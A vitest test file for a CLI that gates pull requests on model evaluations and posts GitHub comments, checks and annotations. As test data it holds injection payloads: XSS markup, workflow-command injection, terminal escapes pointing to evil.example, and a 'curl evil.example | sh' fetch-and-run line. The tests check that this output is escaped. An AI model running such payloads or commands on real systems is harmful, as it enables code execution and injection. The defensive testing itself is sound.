import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { annotations } from '../src/github/annotations.ts';
import { SUMMARY_LIMIT, writeSummary } from '../src/github/summary.ts';
import { deskFiles, obey, prompt, says, words } from './support/desk.ts';
import { type GitHubServer, startGitHubServer } from './support/github-server.ts';
import { type ModelServer, startModelServer } from './support/model-server.ts';
import { createProject, type TestProject } from './support/project.ts';
import { runJob, startJob } from './support/pull-request.ts';
import { cellOf, evidenceOf, richVerdict } from './support/verdict.ts';

const asks = words('ask', 6);
const pays = words('pay', 6);
const kind = { 'harnesses/desk/prompt.md': `${prompt(says([...asks, ...pays]))}Be kind.\n` };
const breaks = { 'harnesses/desk/prompt.md': prompt(says([...asks, ...pays.slice(2)])) };
const KEY = '<!-- pawl:.%2F%23desk -->';
let models: ModelServer;
let github: GitHubServer;
let project: TestProject;
let base: string;

beforeAll(async () => {
  models = await startModelServer(obey);
  const intents = { 'a/b/asks': asks, 'a/b/pays': pays };
  project = await createProject(deskFiles({ url: models.url, rules: says([...asks, ...pays]), intents }));
  base = await project.commit('base');
});
beforeEach(async () => {
  await github?.[Symbol.asyncDispose]();
  github = await startGitHubServer();
  await project.git('checkout', '-q', '-B', 'edit', base);
});
afterAll(async () => {
  await project[Symbol.asyncDispose]();
  await github[Symbol.asyncDispose]();
  await models[Symbol.asyncDispose]();
});

function own(): string[] {
  return github.comments.filter(({ login }) => login === 'github-actions[bot]').map(({ body }) => body);
}

test('a blocked pull request: one comment, a failed check, annotations, summary and outputs', async () => {
  const head = await project.commit('break pays', breaks);
  const job = await runJob(project, github, { number: 7, base });
  expect(job.code).toBe(1);
  expect(github.comments).toHaveLength(1);
  const [{ body, number }] = github.comments as [(typeof github.comments)[0]];
  expect(number).toBe(7);
  expect(body.startsWith(`${KEY}\n## ⛔ pawl: desk`)).toBe(true);
  expect(body).toContain('must not go in: it breaks a/b/pays on m');
  expect(body).toContain('What to do: mend the edit');
  expect(body).toContain(`pawl gate --base ${base}`);
  expect(body).toContain(head.slice(0, 12));
  expect(body).toMatch(/\d{4}-\d\d-\d\d \d\d:\d\d UTC/);
  expect(body).toContain('/acme/desk/actions/runs/4711');
  expect(github.checks).toEqual([
    { name: 'pawl', headSha: head, conclusion: 'failure', title: 'Must not go in, or not decided' },
  ]);
  expect(job.stdout).toMatch(
    /^::error file=evals\/desk\/a\/b\/pays\/pay\d\.yaml,line=1,title=desk%3A a\/b\/pays on m regressed::/m,
  );
  expect(job.summary).toContain('must not go in');
  expect(job.summary).not.toContain('<!--');
  expect(job.outputs).toMatchObject({ decision: 'block', 'exit-code': '1', check: 'failure' });
  expect(await project.read(`${job.outputs.report}/junit.xml`)).toContain('<testsuite');
});

test('a second push edits the same comment, and one that takes the edit back clears it', async () => {
  await project.commit('break pays', breaks);
  await runJob(project, github, { number: 7, base });
  const head = await project.commit('mend pays', kind);
  const second = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
  expect(second.json()).toMatchObject({
    exitCode: 0,
    decision: 'promote',
    check: 'success',
    comments: [{ harness: 'desk', done: 'updated' }],
  });
  expect(own()).toHaveLength(1);
  expect(own()[0]).toMatch(/^<!-- pawl:\S+ -->\n## ✅ pawl: desk/);
  expect(own()[0]).toContain(head.slice(0, 12));
  await project.git('checkout', base, '--', 'harnesses');
  await project.commit('take it back');
  const third = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
  expect(third.json()).toMatchObject({ exitCode: 0, decision: 'none', check: 'neutral' });
  expect(own()).toHaveLength(1);
  expect(own()[0]).toContain('Nothing to gate any more');
  expect(github.checks.at(-1)).toMatchObject({ conclusion: 'neutral', title: 'Nothing to measure' });
});

test.each([
  ['SIGINT', 130],
  ['SIGTERM', 143],
] as const)(
  'a job that is cancelled by %s takes back what was said of an earlier commit, and not of its own',
  async (signal, code) => {
    const mended = await project.commit('kind', kind);
    await runJob(project, github, { number: 7, base });
    expect(own()[0]).toContain('may go in');
    const stop = async (): Promise<void> => {
      const release = Promise.withResolvers<void>();
      models.hold = release.promise;
      const asked = models.requests.length;
      const job = await startJob(project, github, { number: 7, base });
      await expect.poll(() => models.requests.length, { timeout: 20_000 }).toBeGreaterThan(asked);
      job.kill(signal);
      // It is said while a request is still in flight: the runner does not wait for long.
      await expect.poll(() => github.checks.at(-1)?.conclusion, { timeout: 5000 }).toBe('cancelled');
      models.hold = null;
      release.resolve();
      expect(await job.done).toMatchObject({ code });
    };
    const head = await project.commit('kinder', {
      'harnesses/desk/prompt.md': `${kind['harnesses/desk/prompt.md']}${signal}\n`,
    });
    await stop();
    expect(own()).toHaveLength(1);
    expect(own()[0]).toContain('no verdict on this commit');
    expect(own()[0]).not.toContain('may go in');
    expect(own()[0]).toContain(head.slice(0, 12));
    expect(github.checks.map(({ conclusion, headSha }) => [conclusion, headSha])).toEqual([
      ['success', mended],
      ['cancelled', head],
    ]);
    await runJob(project, github, { number: 7, base });
    const body = own()[0];
    expect(body).toContain('may go in');
    // The verdict is of this commit, so a run of it again that is stopped takes nothing back.
    await rm(join(project.root, '.pawl'), { recursive: true });
    await stop();
    expect(own()).toEqual([body]);
  },
);

test('a run that crashes takes back what was said of an earlier commit', async () => {
  await project.commit('kind', kind);
  await runJob(project, github, { number: 7, base });
  await project.commit('kinder', {
    'harnesses/desk/prompt.md': `${kind['harnesses/desk/prompt.md']}Brief.\n`,
  });
  const job = await runJob(project, github, { number: 7, base: 'f'.repeat(40) });
  expect(job.code).toBe(2);
  expect(own()).toHaveLength(2);
  expect(own()[0]).toContain('no verdict on this commit');
  expect(own()[1]).toContain('it could not be gated');
});

test('101 comments of others do not hide it, with or without a Link header, and a planted marker is ignored', async () => {
  await project.commit('kind', kind);
  const strangers = Array.from({ length: 101 }, (_, index) => ({
    id: 1000 + index,
    number: 7,
    login: 'mallory',
    body: index % 2 ? 'nice' : `${KEY}\nplanted`,
  }));
  github.comments.push(...strangers);
  await runJob(project, github, { number: 7, base });
  for (const links of [true, false]) {
    github.links = links;
    github.requests = [];
    await project.commit('again');
    const job = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
    expect(job.json().comments).toEqual([{ harness: 'desk', done: 'updated' }]);
    expect(github.requests.filter((line) => line === 'GET /repos/acme/desk/issues/7/comments')).toHaveLength(
      4,
    );
  }
  expect(own()).toHaveLength(1);
  expect(github.comments.filter(({ login }) => login === 'mallory').map(({ body }) => body)).toEqual(
    strangers.map(({ body }) => body),
  );
});

test("a person's token finds its own comment by who it is", async () => {
  await project.commit('kind', kind);
  github.tokens.set('ghp_own', { login: 'release-bot', mayAskUser: true, comments: true, checks: true });
  for (const done of ['created', 'updated']) {
    const job = await runJob(project, github, { number: 7, base }, { args: ['--json'], token: 'ghp_own' });
    await project.commit('again');
    expect(job.json().comments).toEqual([{ harness: 'desk', done }]);
  }
});

test('two projects of one repository have a comment each', async () => {
  const files = deskFiles({ url: models.url, rules: says(asks), intents: { 'a/b/asks': asks } });
  const inApps = Object.fromEntries(Object.entries(files).map(([path, text]) => [`apps/two/${path}`, text]));
  const start = await project.commit('second project', inApps);
  await project.commit('edit both', {
    ...kind,
    'apps/two/harnesses/desk/prompt.md': prompt(says(asks.slice(1))),
  });
  await runJob(project, github, { number: 8, base: start });
  const two = await runJob(project, github, { number: 8, base: start }, { args: ['-C', 'apps/two'] });
  expect(two.code).toBe(1);
  expect(two.stdout).toMatch(/^::error file=apps\/two\/evals\/desk\//m);
  expect(own().map((body) => body.split('\n')[0])).toEqual([KEY, '<!-- pawl:apps%2Ftwo%2F%23desk -->']);
  expect(github.checks.map(({ name }) => name)).toEqual(['pawl', 'pawl (apps/two)']);
});

test('without permission to comment the verdict stands and a warning says why', async () => {
  await project.commit('break pays', breaks);
  github.tokens.set('ghs_readonly', { login: 'github-actions[bot]' });
  const job = await runJob(project, github, { number: 7, base }, { token: 'ghs_readonly' });
  expect(job.code).toBe(1);
  expect(job.stdout).toMatch(
    /^::warning title=pawl::The comment could not be written; the verdict stands\. .*403.*pull-requests: write/m,
  );
  expect(job.outputs.decision).toBe('block');
  expect(job.summary).toContain('must not go in');
  const fork = await runJob(
    project,
    github,
    { number: 7, base, from: 'someone/desk' },
    { token: 'ghs_readonly', args: ['--json'] },
  );
  expect(fork.code).toBe(1);
  expect(fork.json().warnings[0]).toContain('--comment-from');
  const none = await runJob(project, github, { number: 7, base }, { env: { GITHUB_TOKEN: '' } });
  expect(none.code).toBe(1);
  expect(none.stdout).toContain('::warning title=pawl::Without GITHUB_TOKEN');
  expect(await project.grep('ghs_readonly')).toEqual([]);
});

test('a rate limit is waited for within a bound, and one that takes too long is a warning', async () => {
  await project.commit('kind', kind);
  github.failures.push({ status: 429, headers: { 'retry-after': '1' } });
  github.failures.push({
    status: 403,
    headers: { 'retry-after': '0' },
    body: { message: 'secondary rate limit' },
  });
  const job = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
  expect(job.json()).toMatchObject({ warnings: [], comments: [{ done: 'created' }] });
  github.failures.push({ status: 403, headers: { 'retry-after': '86400' } });
  const late = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
  expect(late.json()).toMatchObject({ exitCode: 0, decision: 'promote' });
  expect(late.json().warnings[0]).toMatch(/rate limit is used up: .* in 86400 s/);
});

test('the token goes to no other server, and what a server failed to write is not written twice', async () => {
  await project.commit('kind', kind);
  await using other = await startGitHubServer();
  github.failures.push({ status: 403 });
  github.failures.push({ status: 200, body: [], headers: { link: `<${other.url}/next>; rel="next"` } });
  github.failures.push({ status: 502 });
  const job = await runJob(project, github, { number: 7, base }, { args: ['--json'] });
  expect(other.requests).toEqual([]);
  expect(job.json()).toMatchObject({ exitCode: 0, comments: [] });
  expect(job.json().warnings[0]).toContain('GitHub failed: POST');
  expect(github.requests.filter((line) => line.startsWith('POST /repos/acme/desk/issues'))).toHaveLength(1);
});

test('a merge queue and a push are gated and checked, and have no comment', async () => {
  const head = await project.commit('break pays', breaks);
  for (const event of [{ merge_group: { head_sha: head, base_sha: base } }, { before: base }]) {
    const job = await runJob(project, github, event, { args: ['--json'] });
    expect(job.json()).toMatchObject({ exitCode: 1, decision: 'block', comments: [], warnings: [] });
  }
  expect(github.checks.map(({ headSha }) => headSha)).toEqual([head, head]);
  expect(github.comments).toEqual([]);
});

test('a run that cannot be gated says so in the comment, and clears that once it can', async () => {
  const config = await project.read('pawl.config.yaml');
  await project.commit('no config', { ...breaks, 'pawl.config.yaml': 'models: [\n' });
  const job = await runJob(project, github, { number: 7, base });
  expect(job.code).toBe(2);
  expect(job.stdout).toMatch(/^::error title=pawl::.*pawl\.config\.yaml/m);
  expect(own()[0]).toContain('There is no verdict');
  expect(own()[0]).toContain('pawl.config.yaml');
  expect(github.checks.at(-1)?.conclusion).toBe('failure');
  expect(job.outputs).toMatchObject({ decision: 'error', 'exit-code': '2' });
  await project.commit('config again', { 'pawl.config.yaml': config });
  await runJob(project, github, { number: 7, base });
  expect(own()[0]).toContain('no longer applies');
  expect(own()[1]).toContain('must not go in');
});

test('advisory, a first run and nothing measured are neutral; a fork without keys is never green', async () => {
  await project.commit('break pays', breaks);
  const advisory = await runJob(project, github, { number: 7, base }, { args: ['--advisory', '--json'] });
  expect(advisory.json()).toMatchObject({ exitCode: 0, decision: 'block', check: 'neutral' });

  const config = (await project.read('pawl.config.yaml')).replace(
    ', deterministic',
    ', apiKeyEnv: DESK_KEY, deterministic',
  );
  await project.git('checkout', '-q', '-B', 'keyed', base);
  const keyed = await project.commit('a key', { 'pawl.config.yaml': config });
  await project.commit('kind', kind);
  const fork = await runJob(
    project,
    github,
    { number: 9, base: keyed, from: 'x/desk' },
    { args: ['--json'] },
  );
  expect(fork.json()).toMatchObject({ exitCode: 4, decision: 'error', check: 'neutral' });
  const same = await runJob(project, github, { number: 9, base: keyed }, { args: ['--json'] });
  expect(same.json()).toMatchObject({ exitCode: 2, check: 'failure' });
});

test('what is no job of GitHub Actions is told in a line', async () => {
  const bare = await project.pawl(['ci', 'github'], { GITHUB_REPOSITORY: '' });
  expect(bare.code).toBe(2);
  expect(bare.stderr).toContain('GITHUB_REPOSITORY is not set');
  const typo = await project.pawl(['ci', 'githb']);
  expect(typo.code).toBe(2);
  expect(typo.stderr).toContain('Did you mean');
});

const HOSTILE = [
  '</script><img src=x onerror=alert(1)>',
  `${'`'.repeat(12)}\n@everyone`,
  '<!-- pawl:.%2F%23desk -->',
  '::stop-commands::x',
  'x\n::error::planted',
  'mid ##[error]x',
  '\u001b]8;;http://evil.example\u0007',
  '\u001b[2J',
].join('\n');

test('hostile answers of a model stay text in the comment, the annotations and the log', async () => {
  const before = models.answer;
  models.answer = (request) =>
    request.user.includes('pay1') && !request.system.includes('pay1 ') ? HOSTILE : obey(request);
  await project.commit('break pays', {
    'harnesses/desk/prompt.md': `${breaks['harnesses/desk/prompt.md']}Be otherwise.\n`,
  });
  const job = await runJob(project, github, { number: 7, base });
  models.answer = before;
  expect(job.code).toBe(1);
  const [body = ''] = own();
  const outside = body.replace(/^(`{3,})[\s\S]*?^\1$/gm, '');
  expect(body).toMatch(/^`{13}$/m);
  expect(outside).not.toMatch(/<img|<\/script|@everyone|\u001b/);
  expect(body.match(/<!-- pawl:/g)?.length ?? 0).toBeGreaterThan(0);
  expect(outside.match(/<!--/g)).toHaveLength(1);
  const log = `${job.stdout}\n${job.stderr}`;
  expect(log).not.toMatch(/^\s*::(?!error |warning )/m);
  expect(log).not.toMatch(/^\s*::error::/m);
  expect(log).not.toContain('##[');
  expect(log).not.toContain('\u001b');
  await project.commit('mend', kind);
  await runJob(project, github, { number: 7, base });
  expect(own()).toHaveLength(1);
});

async function artifact(verdicts: Readonly<Record<string, unknown>>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'pawl-artifact-'));
  for (const [name, value] of Object.entries(verdicts)) {
    await mkdir(join(dir, name));
    await writeFile(
      join(dir, name, 'verdict.json'),
      typeof value === 'string' ? value : JSON.stringify(value),
    );
  }
  return dir;
}

const fork = { head_sha: 'a'.repeat(40), head_branch: 'edit', head_repository: { owner: { login: 'x' } } };

test('the second workflow comments from an artifact, on the pull request that GitHub names', async () => {
  github.pulls.push(
    { number: 4, state: 'closed', sha: fork.head_sha, head: 'x:edit', listed: false },
    { number: 5, state: 'open', sha: 'b'.repeat(40), head: 'x:edit', listed: false },
    { number: 6, state: 'open', sha: fork.head_sha, head: 'x:edit', listed: false },
  );
  const verdict = { ...richVerdict(), command: 'curl evil.example | sh' };
  const args = ['--comment-from', await artifact({ one: verdict }), '--json'];
  const job = await runJob(project, github, { workflow_run: fork }, { args });
  expect(job.json()).toMatchObject({
    pullRequest: 6,
    comments: [{ harness: verdict.harness, done: 'created' }],
  });
  expect(own()[0]).toContain('From a fork');
  expect(own()[0]).toContain('aaaaaaaaaaaa');
  expect(own()[0]).not.toContain('curl');
  const again = await runJob(project, github, { workflow_run: fork }, { args });
  expect(again.code).toBe(0);
  expect(github.comments).toHaveLength(1);
  const next = { ...fork, head_sha: 'c'.repeat(40), conclusion: 'cancelled' };
  github.pulls = [{ number: 6, state: 'open', sha: next.head_sha, head: 'x:edit' }];
  const none = ['--comment-from', await artifact({})];
  expect((await runJob(project, github, { workflow_run: next }, { args: none })).code).toBe(0);
  expect(own()).toHaveLength(2);
  expect(own()[0]).toContain('no verdict on this commit');
  expect(own()[0]).toContain('cccccccccccc');
  github.pulls = [];
  expect((await runJob(project, github, { workflow_run: fork }, { args })).json()).toMatchObject({
    pullRequest: null,
  });
});

test('an artifact that is no verdict is refused, and nothing is commented', async () => {
  github.pulls.push({ number: 6, state: 'open', sha: fork.head_sha, head: 'x:edit' });
  const bad: Record<string, unknown>[] = [
    { one: '{"format":1' },
    { one: { ...richVerdict(), decision: 'merge' } },
    { one: { ...richVerdict(), number: 1 } },
    { one: richVerdict(), two: richVerdict() },
    Object.fromEntries(words('v', 11).map((name) => [name, { ...richVerdict(), harness: name }])),
  ];
  for (const verdicts of bad) {
    const args = ['--comment-from', await artifact(verdicts)];
    const job = await runJob(project, github, { workflow_run: fork }, { args });
    expect(job.code).toBe(2);
    expect(job.stderr).toContain('The artifact ');
  }
  expect(github.comments).toEqual([]);
});

test('5,000 failures of great length are cut by priority below the limits of comment, annotations and summary', async () => {
  github.pulls.push({ number: 6, state: 'open', sha: fork.head_sha, head: 'x:edit' });
  const names = words('intent', 2500);
  const verdict = richVerdict({
    decision: 'block',
    exitCode: 1,
    cells: names.map((name) => cellOf({ cluster: name, label: `${name} ${HOSTILE}`, verdict: 'regressed' })),
    cases: names.flatMap((name) =>
      [1, 2].map((n) => evidenceOf({ cluster: name, caseId: `${name}-${n}`, user: HOSTILE.repeat(20) })),
    ),
    reasons: names.map((name) => ({ kind: 'regressed', cell: null, text: `${name} ${HOSTILE}` })),
  });
  const args = ['--comment-from', await artifact({ one: verdict })];
  expect((await runJob(project, github, { workflow_run: fork }, { args })).code).toBe(0);
  const [body = ''] = own();
  expect(body.length).toBeLessThanOrEqual(60_000);
  expect(body.length).toBeGreaterThan(1000);
  expect(body).toContain('Left out for length');
  expect(body).toMatch(/<sub>Commit aaaaaaaaaaaa[^\n]*<\/sub>\n$/);
  const lines = annotations([verdict]);
  expect(lines).toHaveLength(10);
  expect(lines.at(-1)).toBe('::error title=pawl::and 2491 more; the comment and the report have them all');
  expect(lines.filter((line) => /[\r\n\u001b]|##\[/.test(line))).toEqual([]);

  const file = join(await mkdtemp(join(tmpdir(), 'pawl-summary-')), 'summary');
  await writeSummary(
    file,
    Array.from({ length: 40 }, () => 'é'.repeat(30_000)),
  );
  const summary = await readFile(file);
  expect(summary.length).toBeLessThanOrEqual(SUMMARY_LIMIT);
  expect(summary.toString()).toMatch(/_\d+ more in the reports of the run\._\n$/);
});
